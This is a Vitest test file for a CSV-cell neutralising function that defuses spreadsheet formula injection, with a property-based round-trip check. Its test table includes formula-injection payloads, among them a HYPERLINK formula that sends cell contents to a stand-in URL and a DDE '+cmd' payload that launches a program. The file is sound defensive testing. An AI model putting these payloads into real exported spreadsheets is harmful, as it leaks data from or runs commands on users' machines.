import { describe, expect, test } from "vitest";
import fc from "fast-check";
import { neutraliseCell, restoreCell } from "../../src/documents/index.js";

describe("CSV cells", () => {
  test.each([
    ['=HYPERLINK("http://x"&A1,"x")', `'=HYPERLINK("http://x"&A1,"x")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["'=1", "''=1"],
    ["-5", "-5"],
    ["-0.25", "-0.25"],
    ["Tốt", "Tốt"],
    ["", ""],
    ["it's", "it's"],
  ])("%j is written as %j and read back", (text, written) => {
    expect(neutraliseCell(text)).toBe(written);
    expect(restoreCell(written)).toBe(text);
  });

  test("any text round-trips, and no written cell starts a formula", () => {
    const alphabet = fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'", "1", "a", " ", ".");
    fc.assert(
      fc.property(fc.string({ unit: alphabet, maxLength: 8 }), (text) => {
        const written = neutraliseCell(text);
        expect(restoreCell(written)).toBe(text);
        if (!/^[-+]?\d+(?:[.,]\d+)?$/.test(written)) expect(written).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });
});
